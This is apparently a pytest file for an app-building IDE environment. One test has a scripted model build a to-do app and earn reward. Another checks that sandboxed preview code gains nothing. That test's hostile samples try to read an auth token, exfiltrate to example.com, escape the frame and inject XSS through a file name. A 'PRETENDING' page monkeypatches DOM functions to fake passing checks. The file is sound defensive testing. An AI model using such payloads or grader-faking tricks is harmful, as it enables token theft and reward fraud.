"""The Mini Program IDE: a scripted model builds an app in six turns, and a hostile app gains nothing."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.conftest import fetch
from tests.console.test_private import console, local  # noqa: F401

if TYPE_CHECKING:
    from playwright.sync_api import FrameLocator, Page

Watched = Callable[..., "Page"]

MODEL = '''
from aenv.rollout import calls

PAGE = """<!doctype html>
<html lang="en">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<title>To do</title>
<link rel="stylesheet" href="style.css">
<form id="add"><input id="what" type="text" aria-label="What"><button>Add</button></form>
<ul id="items"></ul>
<script src="app.js"></script>
</html>
"""
STYLE = "body { max-width: 30em; margin: 1em } .done { text-decoration: line-through }"
BROKEN = """
documnt.querySelector("#add").addEventListener("submit", add);
"""
APP = """
const items = document.querySelector("#items");
const kept = JSON.parse(localStorage.getItem("kept") ?? "[]");
function show(text) {
  const item = document.createElement("li");
  item.textContent = text;
  item.addEventListener("click", () => item.classList.toggle("done"));
  items.append(item);
}
kept.forEach(show);
document.querySelector("#add").addEventListener("submit", (event) => {
  event.preventDefault();
  const what = document.querySelector("#what");
  if (!what.value) return;
  kept.push(what.value);
  localStorage.setItem("kept", JSON.stringify(kept));
  show(what.value);
  what.value = "";
});
console.log("ready");
"""


def write(name, text):
    return calls(("write_file", {"file_path": name, "content": text}))


def answer(messages, tools):
    assert {"write_file", "read_file", "build_app", "log_browser_console"} <= {t["function"]["name"] for t in tools}
    users = [m["content"] for m in messages if m["role"] == "user"]
    turn, last = len(users), messages[-1]
    if last["role"] == "tool":
        if turn == 4 and "documnt" in last["content"]:
            return write("app.js", APP)
        return f"turn {turn}: {last['content'][:80]}"
    if turn == 1:
        return write("index.html", PAGE)
    if turn == 2:
        return write("style.css", STYLE)
    if turn == 3:
        return write("app.js", BROKEN)
    if turn == 4:
        assert "The browser's console says" in users[-1] and "documnt" in users[-1]
        return calls(("log_browser_console", {}))
    if turn == 5:
        return calls(("build_app", {}))
    return f"turn 6: you first said {users[0]!r}"
'''
HOSTILE_PAGE = """<!doctype html><html lang="en"><title>x</title>
<base href="https://example.com/"><img src="https://example.com/x.png" alt=""><iframe src="https://example.com/"></iframe>
<form id="f" action="https://example.com/" method="post"><input name="a"></form>
<a id="a" href="https://example.com/" target="_top">a</a><script src="app.js"></script><p id="ran">no</p></html>"""
LEAVING = [
    '<meta http-equiv="refresh" content="0; url=https://example.com/">',
    "<script>location = 'https://example.com/?stolen'</script>",
    "<script>setTimeout(() => location.replace('https://example.com/'), 50)</script>",
]
HOSTILE_CODE = """
addEventListener("load", () => {
  const tries = [
    () => parent.document.body.append("pwned"), () => (parent.pwned = 1), () => (top.location = "https://example.com/"),
    () => parent.sessionStorage.getItem("aenv-token"), () => fetch("/env-instance/list"),
    () => fetch("https://example.com/"), () => new WebSocket("wss://example.com/"), () => open("https://example.com/"),
    () => alert(1), () => document.querySelector("#a").click(),
    () => navigator.sendBeacon("https://example.com/", "x"), () => new Worker("data:text/javascript,1"),
    () => new RTCPeerConnection(), () => eval("1"), () => console.error("<img src=x onerror=alert(1)>".repeat(500)),
    () => parent.postMessage({ aenv: "call", id: 1, name: "save_file", arguments: { file_path: "p" } }, "*"),
    () => parent.postMessage({ aenv: "console", level: {}, text: [] }, "*"), () => parent.postMessage(null, "*"),
    () => { for (let i = 0; i < 5000; i++) console.log("flood"); },
  ];
  for (const each of tries) { try { Promise.resolve(each()).catch(() => 0); } catch { /* refused */ } }
  document.querySelector("#ran").textContent = "yes";
});
"""


PRETENDING = """<form id="add"><input id="what"><button>Add</button></form><ul id="items"></ul><script>
const item = Object.assign(document.createElement("li"), { textContent: "tea & <b>eggs</b> kept", className: "done" });
document.querySelectorAll = document.querySelector = () => [item];
Object.defineProperty(window, "checks", { value: "passed" });
JSON.stringify = () => '{"count":1}'; Element.prototype.checkVisibility = () => true;
Array.prototype.filter = () => [item]; setTimeout(() => alert(1), 10);
</script>"""


class Ide:
    """The IDE of a fresh instance, in a browser."""

    def __init__(self, page: Page, link: str) -> None:
        self.page = page
        self.place = link.partition("/console/#code=")[0]
        page.goto(link)
        page.get_by_text("Creates per second").wait_for()
        page.goto(f"{self.place}/console/#/playground?env=mini-program@1.0.0")
        page.get_by_role("button", name="Open an instance").click()
        page.get_by_role("link", name="Open the IDE").click(timeout=60_000)
        page.get_by_role("heading", name="Mini Program IDE").wait_for()
        self.instance = page.url.rpartition("/ide/")[2].split("?")[0]

    @property
    def preview(self) -> FrameLocator:
        return self.page.frame_locator("iframe")

    def say(self, text: str, answer: str) -> None:
        self.page.get_by_label("Message to the model").fill(text)
        self.page.get_by_role("button", name="Send").click()
        self.page.locator(".message.assistant", has_text=answer).wait_for()

    def call(self, path: str, body: Any) -> Any:
        held = self.page.evaluate("sessionStorage.getItem('aenv-token')")
        headers = {"Authorization": f"Bearer {held}", "content-type": "application/json"}
        status, answer = fetch(
            self.place, f"/instance/{self.instance}/{path}", json.dumps(body).encode(), headers=headers
        )
        assert status == 200, answer
        return answer["data"]

    def reward(self, task: str = "to-do") -> Any:
        tasks = {each["id"]: each for each in self.call("task/list", {})["tasks"]}
        return self.call("task/reward", tasks[task]["reward"]["arguments"])


@pytest.fixture
def model(tmp_path: Path) -> str:
    (tmp_path / "model.py").write_text(MODEL)
    return f"{tmp_path / 'model.py'}:answer"


def test_a_scripted_model_builds_a_to_do_app_in_six_turns(
    local: dict[str, str],  # noqa: F811
    watched: Watched,
    model: str,
) -> None:
    with console(local, "--model", model) as link:
        page = watched()
        ide = Ide(page, link)
        assert ide.reward()["score"] == 0.0
        ide.say("A to-do list, please.", "turn 1")
        ide.preview.locator("#add").wait_for()
        ide.say("Make it pretty.", "turn 2")
        ide.say("Make it work.", "turn 3")
        page.locator(".console .wrong", has_text="documnt is not defined").wait_for()
        ide.say("Nothing happens.", "turn 4")
        page.locator(".console", has_text="log: ready").wait_for()
        assert page.locator(".console .wrong").count() == 0
        ide.say("Does it build?", 'turn 5: {"success":true')
        ide.say("What did I ask for?", "turn 6: you first said 'A to-do list, please.'")
        ide.preview.locator("#what").fill("tea & <b>eggs</b>")
        ide.preview.get_by_role("button", name="Add").click()
        ide.preview.locator("li", has_text="tea & <b>eggs</b>").click()
        assert ide.preview.locator("li.done").count() == 1
        reward = ide.reward()
        assert reward["score"] == 1.0, reward
        used = ide.reward("to-do-used")  # a browser in the instance clicks and types
        assert used["score"] == 1.0, used
        page.get_by_role("tab", name="History").click()
        page.get_by_role("button", name="What changed").first.click()
        page.locator("del", has_text="documnt").wait_for()
        with page.expect_download() as downloading:
            page.get_by_role("button", name="Export as zip").click()
        data = base64.b64decode(ide.call("functions/export_zip", {})["base64"])
        assert Path(downloading.value.path()).read_bytes() == data
        assert set(zipfile.ZipFile(io.BytesIO(data)).namelist()) == {"app.js", "index.html", "style.css"}
        page.reload()  # the conversation is kept with the files
        page.locator(".message.assistant", has_text="turn 6").wait_for()


@pytest.mark.long
def test_a_hostile_app_gains_nothing(local: dict[str, str], watched: Watched) -> None:  # noqa: F811
    with console(local) as link:
        page = watched()
        ide = Ide(page, link)
        page.get_by_text("No model is configured").wait_for()
        ide.call("functions/save_file", {"file_path": "<img src=x onerror=alert(1)>.js", "content": "x"})
        ide.call("functions/save_file", {"file_path": "app.js", "content": HOSTILE_CODE})
        ide.call("functions/save_file", {"file_path": "index.html", "content": HOSTILE_PAGE})
        ide.preview.locator("#ran", has_text="yes").wait_for()
        page.locator(".console", has_text="flood").wait_for()
        page.get_by_role("tab", name="History").click()
        page.get_by_role("cell", name="<img src=x onerror=alert(1)>.js").wait_for()
        assert page.url.startswith(f"{ide.place}/console/#/ide/")
        assert page.evaluate("window.pwned") is None
        assert "pwned" not in page.locator("body").inner_text()
        assert len(page.context.pages) == 1
        page.get_by_role("tab", name="Preview").click()
        page.evaluate("window.refused = 0; addEventListener('securitypolicyviolation', () => window.refused++)")
        for number, leaving in enumerate(LEAVING):
            ide.call("functions/save_file", {"file_path": "index.html", "content": f"{HOSTILE_PAGE}{leaving}"})
            page.wait_for_function(f"() => window.refused > {number}")
        assert "p" not in ide.call("functions/app_state", {})["files"]
        assert ide.reward()["score"] < 1.0
        ide.call("functions/save_file", {"file_path": "index.html", "content": HOSTILE_PAGE + PRETENDING})
        steps = [{"fill": "#what", "text": "tea"}, {"expect": "#items li", "count": 1}]
        used = ide.call("task/reward", {"checks": [{"kind": "browser", "steps": steps}]})
        assert (used["score"], used["checks"][0]["why"][:6]) == (0.0, "step 2"), used
